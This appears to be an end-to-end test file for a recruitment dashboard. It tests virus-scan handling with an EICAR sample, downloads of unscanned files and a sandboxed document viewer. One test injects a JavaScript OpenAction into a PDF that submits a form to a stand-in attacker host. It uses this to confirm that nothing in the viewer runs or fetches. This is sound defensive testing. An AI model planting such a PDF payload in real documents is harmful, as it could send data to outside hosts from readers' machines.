import { readFile } from 'node:fs/promises';
import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import type { ScanState } from '../api/contract/applications.ts';
import type { ApplicantView } from '../api/contract/recruitment.ts';
import { docxWith, EICAR, pdfWith } from '../api/test/hiding-places.ts';
import { axeViolations } from './test/axe.ts';
import { colleague, type SignedInColleague } from './test/colleague.ts';
import { AINO, dashboardAs, scanned, TOWN, viewOf } from './test/dashboard.ts';
import { urls, useBrowser } from './test/page.ts';
import { pdf } from './test/pdf.ts';
import { recruitment } from './test/recruitment.ts';

const openAs = dashboardAs(useBrowser());

let kaisa: SignedInColleague;
beforeAll(async () => {
  kaisa = await colleague(urls, [TOWN], 'recruiter', 'Kaisa Koe');
});

/** Answers the next readings of an application as if its document were in another state. */
async function pretend(page: Page, scan: ScanState): Promise<void> {
  await page.route(/\/applications\/appl_\w+\?/, async (route) => {
    const response = await route.fetch();
    const view = (await response.json()) as ApplicantView;
    await route.fulfill({ response, json: { ...view, documents: view.documents.map((file) => ({ ...file, scan })) } });
  });
}

describe('a document with a virus', () => {
  it.each([
    ['cv.docx', docxWith(EICAR)],
    ['cv.pdf', pdfWith(EICAR)],
  ])('is deleted behind the applicant’s back and told to staff: %s', async (name, bytes) => {
    const { number, applications } = await recruitment(urls.app, TOWN, kaisa, {}, [AINO], { name, bytes });
    const id = applications[0]?.id ?? '';
    await scanned(kaisa, id);
    const view = await viewOf(kaisa, id);
    expect(view.documents).toMatchObject([{ name, scan: 'infected' }]);
    const { page, troubles } = await openAs(kaisa, `/applicants?posting=${number}&open=${id}&lang=sv`);
    await page.getByText('Det fanns ett virus i dokumentet').waitFor();
    expect(await page.getByRole('link', { name }).count()).toBe(0);
    expect(await axeViolations(page)).toEqual([]);
    const file = await kaisa.request(`/staff/${TOWN}/applications/${id}/files/${view.documents[0]?.id}`);
    expect(file.status).toBe(410);
    expect(troubles.list).toEqual([]);
  });
});

describe('a document that was not looked at', () => {
  it('yet can be asked for again, and not opened', async () => {
    const { number, applications } = await recruitment(urls.app, TOWN, kaisa, {}, [AINO]);
    const id = applications[0]?.id ?? '';
    await scanned(kaisa, id);
    const { page } = await openAs(kaisa, `/applicants?posting=${number}&lang=fi`);
    await pretend(page, 'waiting');
    await page.getByRole('link', { name: 'Aino Laine' }).click();
    await page.getByText('Virustarkistus on kesken').waitFor();
    expect(await page.getByRole('link', { name: 'cv.pdf' }).count()).toBe(0);
    expect(await axeViolations(page)).toEqual([]);
    await page.unroute(/\/applications\/appl_\w+\?/);
    await page.getByRole('button', { name: 'Katso uudelleen' }).click();
    await page.getByRole('link', { name: 'cv.pdf' }).waitFor();
  });

  it('by anybody is saved only after saying so, by keyboard too', async () => {
    const { number, applications } = await recruitment(urls.app, TOWN, kaisa, {}, [AINO]);
    const id = applications[0]?.id ?? '';
    await scanned(kaisa, id);
    const { page } = await openAs(kaisa, `/applicants?posting=${number}&lang=en`, { viewport: { width: 360, height: 740 } });
    await pretend(page, 'not-scanned');
    await page.getByRole('link', { name: 'Aino Laine' }).click();
    const save = page.getByRole('button', { name: 'Save anyway' });
    await save.press('Enter');
    await page.getByRole('dialog').getByText('This service has no virus check.').waitFor();
    expect(await axeViolations(page)).toEqual([]);
    const download = page.waitForEvent('download');
    await page.getByRole('link', { name: 'Save the document' }).press('Enter');
    const saved = await download;
    expect([saved.suggestedFilename(), new URL(saved.url()).search]).toEqual(['cv.pdf', '?unscanned=accepted']);
    expect(await page.getByRole('dialog').count()).toBe(0);
  });
});

describe('a document is looked at without leaving the page', () => {
  const opened = async (name: string, bytes: Uint8Array, width = 1280) => {
    const { number, applications } = await recruitment(urls.app, TOWN, kaisa, {}, [AINO], { name, bytes });
    const id = applications[0]?.id ?? '';
    await scanned(kaisa, id);
    const visited = await openAs(kaisa, `/applicants?posting=${number}&open=${id}&lang=en`, { viewport: { width, height: 800 } });
    await visited.page.getByRole('button', { name: `Show here: ${name}` }).press('Enter');
    return visited;
  };
  const real = (name: string) => readFile(new URL(`test/documents/${name}`, import.meta.url));
  /** How many of the dots of a drawn page are not white. */
  const inked = (page: Page) =>
    page
      .locator('canvas[data-drawn]')
      .first()
      .evaluate((canvas) => {
        if (!(canvas instanceof HTMLCanvasElement)) return 0;
        const dots = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height).data ?? [];
        return dots.filter((value, index) => index % 4 === 0 && value < 128).length;
      });

  it.each([
    ['with letters of its own', 'cv-chromium.pdf', () => real('cv-chromium.pdf'), 'Aino Esimerkki'],
    ['with letters of the reader’s', 'cv.pdf', async () => pdf('Curriculum vitae'), 'Curriculum vitae'],
  ])('as pages, and as text: a PDF %s', async (_, name, bytes, words) => {
    const { page, troubles } = await opened(name, await bytes());
    await page.getByRole('img', { name: 'Page 1 of 1' }).waitFor();
    expect(await inked(page)).toBeGreaterThan(200);
    expect(await axeViolations(page)).toEqual([]);
    await page.getByRole('button', { name: 'Text', exact: true }).click();
    await page.locator('vuoro-document-viewer').getByText(words).waitFor();
    expect(await axeViolations(page)).toEqual([]);
    await page.getByRole('button', { name: `Show here: ${name}` }).click();
    await expect.poll(() => page.locator('vuoro-document-viewer').count()).toBe(0);
    expect(troubles.list).toEqual([]);
  });

  it.each(['cv-pandoc.docx', 'cv-pandoc.odt'])('as text: %s, on a phone', async (name) => {
    const { page, troubles } = await opened(name, await real(name), 360);
    await page.getByText('Only the text is shown.').waitFor();
    await page.locator('vuoro-document-viewer').getByText('Yhteystiedot').waitFor();
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
    expect(await axeViolations(page)).toEqual([]);
    expect(troubles.list).toEqual([]);
  });

  it('and says so when it cannot be shown', async () => {
    const { page, troubles } = await opened(
      'cv.pdf',
      new TextEncoder().encode('%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
    );
    await page.getByText('The document cannot be shown here.').waitFor();
    expect(troubles.list).toEqual([]);
  });

  it('and nothing in it runs, links or is fetched', async () => {
    const scripted = await real('cv-chromium.pdf').then((bytes) =>
      bytes
        .toString('latin1')
        .replace(
          /\/Type \/Catalog/,
          '/Type /Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("https://evil.example/"\\))>>',
        ),
    );
    expect(scripted).toContain('/S/JavaScript');
    const { page, troubles } = await opened('cv.pdf', new Uint8Array(Buffer.from(scripted, 'latin1')));
    const asked: string[] = [];
    page.on('request', (request) => void asked.push(request.url()));
    await page.locator('canvas[data-drawn]').first().waitFor();
    expect(await page.locator('vuoro-document-viewer').getByRole('link').count()).toBe(0);
    expect(asked.filter((url) => !url.startsWith(urls.app))).toEqual([]);
    expect(troubles.list).toEqual([]);
  });

  it('with what reads it able to reach nothing', async () => {
    const { page } = await opened('cv.pdf', pdf('Curriculum vitae'));
    await page.locator('canvas[data-drawn]').waitFor();
    const [worker] = page.workers();
    const reach = await worker?.evaluate(() =>
      fetch('/staff/session').then(
        () => 'reached',
        () => 'refused',
      ),
    );
    expect(reach).toBe('refused');
  });
});
